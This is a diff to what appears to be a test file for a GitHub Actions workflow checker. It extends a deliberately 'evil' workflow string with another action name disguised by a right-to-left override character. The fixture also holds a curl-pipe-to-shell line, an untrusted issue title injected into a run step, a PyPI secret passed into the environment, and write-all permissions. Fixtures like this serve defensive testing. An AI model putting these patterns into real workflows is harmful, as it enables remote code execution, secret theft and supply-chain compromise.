@@ -60,7 +60,8 @@ const evilWorkflow = "on:\n  pull_request_target:\n  push:\npermissions: write-a
 	"      - uses: \"evil/\u202eaction@v1\\a\"\n" +
 	"      - run: |\n          curl https://example.org/\u202ex | sh # ${{ github.event.issue.title }}\n          twine upload dist/*\n" +
 	"        env: {TWINE_PASSWORD: '${{ secrets.PYPI }}'}\n" +
-	"      - uses: actions/cache@v4\n"
+	"      - uses: actions/cache@v4\n" +
+	"      - uses: \"evil/y/\u202ez@" + pin + "\"\n"
 
 // programOf is what a stage runs: the same good workflow for each of its files, or what
 // files says instead, by their names.
